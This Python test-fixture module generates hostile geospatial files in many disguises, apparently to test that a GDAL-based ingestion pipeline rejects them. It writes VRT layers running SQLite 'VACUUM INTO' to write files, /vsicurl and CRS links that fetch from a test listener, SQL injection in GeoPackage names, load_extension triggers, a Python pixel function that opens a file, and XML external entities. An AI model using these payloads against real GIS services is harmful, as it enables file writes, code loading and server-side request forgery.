"""Files that ask the reader to write a file or to fetch an address, in every dress we could think of."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path
from xml.sax.saxutils import escape

from tests.hostile import gpkg_files, raster_files, vector_files
from tests.hostile.case import Scene
from tests.hostile.csv_files import FACILITY_HEADER

Source = Callable[[Scene, str], str]
_POINT = vector_files.feature('{"name":"甲","type":"hospital"}')
GOOD = '{"type":"FeatureCollection","features":[' + _POINT + "]}"


def written(scene: Scene, name: str) -> Path:
    """Return the file that the attack of this name would leave."""
    return scene.canary / f"{name}.pth"


def vacuum(scene: Scene, name: str) -> str:
    """Return the SQL that writes a copy of a database where it likes."""
    return f"VACUUM INTO '{written(scene, name)}'"


def _layer(source: str, sql: str | None) -> str:
    asked = f"<SrcSQL>{escape(sql)}</SrcSQL>" if sql else ""
    return f"<OGRVRTLayer name='x'><SrcDataSource>{escape(source)}</SrcDataSource>{asked}</OGRVRTLayer>"


def vrt(source: str, sql: str | None = None, *, around: str = "{}") -> str:
    """Return a virtual layer over ``source``; ``around`` is what it wears ({} is where it stands)."""
    return around.replace("{}", f"<OGRVRTDataSource>{_layer(source, sql)}</OGRVRTDataSource>")


def writes(
    prefix: str = "{}", suffix: str = "", *, source: Source | None = None
) -> Callable[[Path, Scene], None]:
    """Return a maker of a virtual layer that writes, between two texts."""

    def make(path: Path, scene: Scene) -> None:
        at_hand = source(scene, path.parent.name) if source else str(scene.victim)
        text = vrt(at_hand, vacuum(scene, path.parent.name))
        path.write_text(prefix + text + suffix, encoding="utf-8")

    return make


def fetches(source: Source, prefix: str = "{}") -> Callable[[Path, Scene], None]:
    """Return a maker of a virtual layer over an address."""

    def make(path: Path, scene: Scene) -> None:
        path.write_text(prefix + vrt(source(scene, path.parent.name)), encoding="utf-8")

    return make


def address(form: str) -> Source:
    """Return a source made of the listener's address."""
    return lambda scene, name: form.format(url=scene.url, name=name)


def within_string(path: Path, scene: Scene) -> None:
    """Write a GeoJSON without a fault, one of whose texts is a virtual layer."""
    inner = vrt(str(scene.victim), vacuum(scene, path.parent.name))
    path.write_text('{"name":"' + inner + '",' + GOOD[1:], encoding="utf-8")


def union(path: Path, scene: Scene) -> None:
    """Write the layer inside a union inside a warped layer."""
    inner = _layer(str(scene.victim), vacuum(scene, path.parent.name))
    union_of = f"<OGRVRTUnionLayer name='u'>{inner}</OGRVRTUnionLayer>"
    warped = f"<OGRVRTWarpedLayer>{union_of}<TargetSRS>EPSG:4326</TargetSRS></OGRVRTWarpedLayer>"
    path.write_text("{}<OGRVRTDataSource>" + warped + "</OGRVRTDataSource>", encoding="utf-8")


def fetched_database(path: Path, scene: Scene) -> None:
    """Write a layer that copies a database which it fetches first."""
    source = f"/vsicurl/{scene.url}/victim.sqlite"
    path.write_text("{}" + vrt(source, vacuum(scene, path.parent.name)), encoding="utf-8")


def streamed_algorithm(path: Path, scene: Scene) -> None:
    """Write JSON that is a line of commands for GDAL."""
    sql = vacuum(scene, path.parent.name)
    line = f'gdal vector pipeline ! read {scene.victim} ! sql "{sql}"'
    path.write_text(json.dumps({"type": "gdal_streamed_alg", "command_line": line}), encoding="utf-8")


def streamed_fetch(path: Path, scene: Scene) -> None:
    """Write JSON that is a line of commands to fetch."""
    line = f"gdal vector pipeline ! read /vsicurl/{scene.url}/a.geojson ! reproject --dst-crs EPSG:4326"
    path.write_text(json.dumps({"type": "gdal_streamed_alg", "command_line": line}), encoding="utf-8")


def utf16(path: Path, scene: Scene) -> None:
    """Write the virtual layer in UTF-16."""
    path.write_bytes(("{}" + vrt(str(scene.victim), vacuum(scene, path.parent.name))).encode("utf-16"))


def with_nul(path: Path, scene: Scene) -> None:
    """Write a GeoJSON that ends in a NUL, and the virtual layer behind it."""
    text = vrt(str(scene.victim), vacuum(scene, path.parent.name))
    path.write_bytes(GOOD.encode() + b"\0" + text.encode())


def in_zip(part: str) -> Callable[[Path, Scene], None]:
    """Return a maker of a zipped shapefile one of whose parts is a virtual layer."""

    def make(path: Path, scene: Scene) -> None:
        text = vrt(str(scene.victim), vacuum(scene, path.parent.name))
        vector_files.shapefile(path, {part: text.encode()})

    return make


def fetch_in_zip(path: Path, scene: Scene) -> None:
    """Write a zipped shapefile whose .shp is a virtual layer over an address."""
    vector_files.shapefile(path, {"shp": vrt(f"/vsicurl/{scene.url}/zip.gpkg").encode()})


def only_vrt_in_zip(path: Path, scene: Scene) -> None:
    """Write a zip of a virtual layer, named as a shapefile's parts are."""
    text = vrt(str(scene.victim), vacuum(scene, path.parent.name)).encode()
    vector_files.shapefile(path, {"shp": text, "shx": text, "dbf": text, "prj": text})


def csv_beside_vrt(path: Path, scene: Scene) -> None:
    """Write an honest CSV, and beside it a virtual layer and column types of the same name."""
    path.write_text(FACILITY_HEADER + "甲医院,hospital,118.8,32.05\n", encoding="utf-8")
    text = vrt(str(scene.victim), vacuum(scene, path.parent.name))
    path.with_suffix(".vrt").write_text(text, encoding="utf-8")
    path.with_suffix(".csvt").write_text('"String","String","Real","Real"\n', encoding="utf-8")
    path.with_suffix(".prj").write_text(f"/vsicurl/{scene.url}/beside.prj", encoding="utf-8")


def geojson_beside(path: Path, scene: Scene) -> None:
    """Write an honest GeoJSON, and beside it what other programs would read with it."""
    path.write_text(GOOD, encoding="utf-8")
    text = vrt(str(scene.victim), vacuum(scene, path.parent.name))
    for name in (path.with_suffix(".vrt"), path.with_suffix(".gfs"), path.with_name(path.name + ".aux.xml")):
        name.write_text(text, encoding="utf-8")


def links(path: Path, scene: Scene, *, crs: object = None, more: object = None) -> None:
    """Write a GeoJSON with a link in its place of the reference system, or with references."""
    content = json.loads(GOOD) | ({"crs": crs} if crs else {}) | (more or {})  # type: ignore[operator]
    path.write_text(json.dumps(content, ensure_ascii=False), encoding="utf-8")


def crs_url(path: Path, scene: Scene) -> None:
    """Write a reference system that is an address."""
    links(path, scene, crs={"type": "url", "properties": {"url": f"{scene.url}/crs"}})


def crs_link(path: Path, scene: Scene) -> None:
    """Write a reference system that is a link."""
    links(path, scene, crs={"type": "link", "properties": {"href": f"{scene.url}/crs", "type": "ogcwkt"}})


def crs_name(path: Path, scene: Scene) -> None:
    """Write a reference system whose name is an address."""
    links(path, scene, crs={"type": "name", "properties": {"name": f"{scene.url}/crs"}})


def crs_file(path: Path, scene: Scene) -> None:
    """Write a reference system whose name is a file elsewhere."""
    links(path, scene, crs={"type": "name", "properties": {"name": f"/vsicurl/{scene.url}/crs.prj"}})


def crs_grid(path: Path, scene: Scene) -> None:
    """Write a reference system that needs a grid from an address."""
    text = f"+proj=longlat +nadgrids={scene.url}/grid.tif +no_defs"
    links(path, scene, crs={"type": "name", "properties": {"name": text}})


def references(path: Path, scene: Scene) -> None:
    """Write references and schemas that are addresses."""
    more = {key: f"{scene.url}/{key.strip('$@')}" for key in ("$ref", "$schema", "@context", "href")}
    more |= {"links": [{"rel": "next", "href": f"{scene.url}/next"}]}  # type: ignore[dict-item]
    links(path, scene, more=more)


def esri_pages(path: Path, scene: Scene) -> None:
    """Write JSON of another kind that says there is more of it."""
    content = {
        "geometryType": "esriGeometryPoint", "spatialReference": {"wkid": 4326},
        "exceededTransferLimit": True,
        "fields": [{"name": "name", "type": "esriFieldTypeString"}],
        "features": [{"attributes": {"name": "甲"}, "geometry": {"x": 118.8, "y": 32.0}}], "url": scene.url,
    }  # fmt: skip
    path.write_text(json.dumps(content, ensure_ascii=False), encoding="utf-8")


def gml(path: Path, scene: Scene) -> None:
    """Write GML with a schema and a link at an address."""
    path.write_text(
        '<?xml version="1.0"?><!DOCTYPE a SYSTEM "' + scene.url + '/a.dtd">'
        '<gml:FeatureCollection xmlns:gml="http://www.opengis.net/gml" xmlns:xlink="http://www.w3.org/1999/xlink"'
        ' xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"'
        f' xsi:schemaLocation="http://a {scene.url}/a.xsd">'
        f'<gml:featureMember xlink:href="{scene.url}/member"/>'
        "</gml:FeatureCollection>",
        encoding="utf-8",
    )


def kml(path: Path, scene: Scene) -> None:
    """Write KML that is a link to more of it."""
    path.write_text(
        '<?xml version="1.0"?><kml xmlns="http://www.opengis.net/kml/2.2"><Document><NetworkLink><Link>'
        f"<href>{scene.url}/more.kml</href></Link></NetworkLink></Document></kml>",
        encoding="utf-8",
    )


def sql_name(path: Path, scene: Scene) -> None:
    """Write a GeoPackage whose layer has SQL for a name."""
    gpkg_files.geopackage(path, table=f'x"; {vacuum(scene, path.parent.name)}; --')


def sql_name_select(path: Path, scene: Scene) -> None:
    """Write a GeoPackage whose layer is named like a question."""
    gpkg_files.geopackage(path, table=f"SELECT load_extension('{scene.canary}/x.so')")


def sql_column(path: Path, scene: Scene) -> None:
    """Write a GeoPackage whose column has SQL for a name."""
    name = gpkg_files.quoted(f'y" FROM sqlite_master; {vacuum(scene, path.parent.name)}; --')
    row = (118.8, 32.05, "医院", "hospital", "x")
    gpkg_files.geopackage(path, columns=f"name TEXT, type TEXT, {name} TEXT", rows=[row])


def triggers(path: Path, scene: Scene) -> None:
    """Write a GeoPackage with triggers and a view that would load and attach."""
    bad = f"SELECT load_extension('{scene.canary}/x.so')"
    attach = f"CREATE VIEW v AS SELECT load_extension('{scene.canary}/x.so') AS a FROM places"
    trigger = f"CREATE TRIGGER t AFTER UPDATE ON gpkg_contents BEGIN {bad}; END"
    gpkg_files.geopackage(path, statements=[trigger, attach])


def attach_in_schema(path: Path, scene: Scene) -> None:
    """Write SQL into the schema that is no definition."""
    sql = f"ATTACH DATABASE '{written(scene, path.parent.name)}' AS other"
    gpkg_files.geopackage(
        path, schema=[("trigger", "t", sql), ("view", "v", vacuum(scene, path.parent.name))]
    )


def calling_view(expression: str) -> Callable[[Path, Scene], None]:
    """Return a maker of a GeoPackage whose list of layers calls a function each time it is read."""

    def make(path: Path, scene: Scene) -> None:
        asked = expression.format(url=scene.url, victim=scene.victim, canary=scene.canary)
        select = (
            f"SELECT 'places' AS table_name, 'features' AS data_type, {asked} AS identifier,"
            " '' AS description, '2024-01-01' AS last_change, 118 AS min_x, 31 AS min_y, 120 AS max_x,"
            " 33 AS max_y, 4326 AS srs_id"
        )
        gpkg_files.as_view(path, "gpkg_contents", select)

    return make


def virtual_table(module: str, argument: str) -> Callable[[Path, Scene], None]:
    """Return a maker of a GeoPackage whose layer is a virtual table of GDAL's."""

    def make(path: Path, scene: Scene) -> None:
        inner = path.with_name("inner.vrt")
        inner.write_text(vrt(str(scene.victim), vacuum(scene, path.parent.name)), encoding="utf-8")
        given = argument.format(url=scene.url, vrt=inner)
        sql = f"CREATE VIRTUAL TABLE places USING {module}({given})"
        gpkg_files.geopackage(path, schema=[("table", "places", sql)])

    return make


def calling_column(path: Path, scene: Scene) -> None:
    """Write a GeoPackage with a generated column and an index that call functions of GDAL's."""
    call = f"gdal_get_pixel_value('/vsicurl/{scene.url}/p.tif', 1, 'pixel', 0, 0)"
    columns = f"name TEXT, type TEXT, v TEXT GENERATED ALWAYS AS ({call}) VIRTUAL"
    table = f"CREATE TABLE places (fid INTEGER PRIMARY KEY, geom POINT, {columns})"
    gpkg_files.geopackage(path)
    gpkg_files.rewrite(path, "places", table)


def srs(text: str) -> Callable[[Path, Scene], None]:
    """Return a maker of a GeoPackage with this text as its reference system."""
    return lambda path, scene: gpkg_files.geopackage(path, srs=text.format(url=scene.url))


def prj(text: str) -> Callable[[Path, Scene], None]:
    """Return a maker of a shapefile with this text as its reference system."""
    return lambda path, scene: vector_files.shapefile(path, {"prj": text.format(url=scene.url).encode()})


def raster_vrt(scene: Scene) -> str:
    """Return a virtual raster over an address."""
    return (
        '<VRTDataset rasterXSize="80" rasterYSize="80"><SRS>EPSG:4326</SRS>'
        "<GeoTransform>116,0.08,0,36,0,-0.08</GeoTransform>"
        '<VRTRasterBand dataType="Float32" band="1"><SimpleSource><SourceFilename relativeToVRT="0">'
        f"/vsicurl/{scene.url}/p.tif</SourceFilename><SourceBand>1</SourceBand></SimpleSource></VRTRasterBand>"
        "</VRTDataset>"
    )


def raster_xml(path: Path, scene: Scene) -> None:
    """Write a virtual raster and call it a GeoTIFF."""
    path.write_text(raster_vrt(scene), encoding="utf-8")


def raster_xml_behind_magic(path: Path, scene: Scene) -> None:
    """Write the first bytes of a TIFF, and a virtual raster behind them."""
    path.write_bytes(b"II*\x00" + raster_vrt(scene).encode())


def raster_python(path: Path, scene: Scene) -> None:
    """Write a virtual raster whose pixels are a function in Python."""
    code = f"def f(*a, **k):\n    open('{written(scene, path.parent.name)}', 'w')\n"
    text = raster_vrt(scene).replace(
        '<VRTRasterBand dataType="Float32" band="1">',
        '<VRTRasterBand dataType="Float32" band="1" subClass="VRTDerivedRasterBand">'
        "<PixelFunctionType>f</PixelFunctionType><PixelFunctionLanguage>Python</PixelFunctionLanguage>"
        f"<PixelFunctionCode><![CDATA[{code}]]></PixelFunctionCode>",
    )
    path.write_bytes(b"II*\x00" + text.encode())


def raster_beside(path: Path, scene: Scene) -> None:
    """Write a small GeoTIFF, and beside it what GDAL would read with it: statistics, overviews, a mask."""
    raster_files.small(path, scene)
    overview = f"<MDI key='OVERVIEW_FILE'>/vsicurl/{scene.url}/o.tif</MDI>"
    listed = f"<Metadata domain='OVERVIEWS'>{overview}</Metadata>"
    side = f"<PAMDataset><SRS>{scene.url}/srs</SRS>{listed}</PAMDataset>"
    path.with_name(path.name + ".aux.xml").write_text(side, encoding="utf-8")
    for ending in (".vrt", ".tif.ovr", ".tif.msk", ".tif.vrt"):
        path.with_name(path.stem + ending).write_text(raster_vrt(scene), encoding="utf-8")
    path.with_suffix(".tfw").write_text("0.08\n0\n0\n-0.08\n116\n36\n", encoding="utf-8")


def raster_metadata(path: Path, scene: Scene) -> None:
    """Write a GeoTIFF whose own metadata name an overview and a mask at an address."""
    items = (
        f"<GDALMetadata><Item name='OVERVIEW_FILE' domain='OVERVIEWS'>/vsicurl/{scene.url}/o.tif</Item>"
        f"<Item name='SRS'>{scene.url}/srs</Item></GDALMetadata>"
    )
    raster_files.small(path, scene, t42112=(2, items.encode() + b"\0"))


def osm_xml(path: Path, scene: Scene) -> None:
    """Write the XML of OpenStreetMap with an entity at an address, and call it PBF."""
    path.write_text(
        f'<?xml version="1.0"?><!DOCTYPE osm [<!ENTITY x SYSTEM "{scene.url}/entity">]>'
        '<osm version="0.6"><node id="1" lat="32" lon="118.8"><tag k="name" v="&x;"/></node></osm>',
        encoding="utf-8",
    )
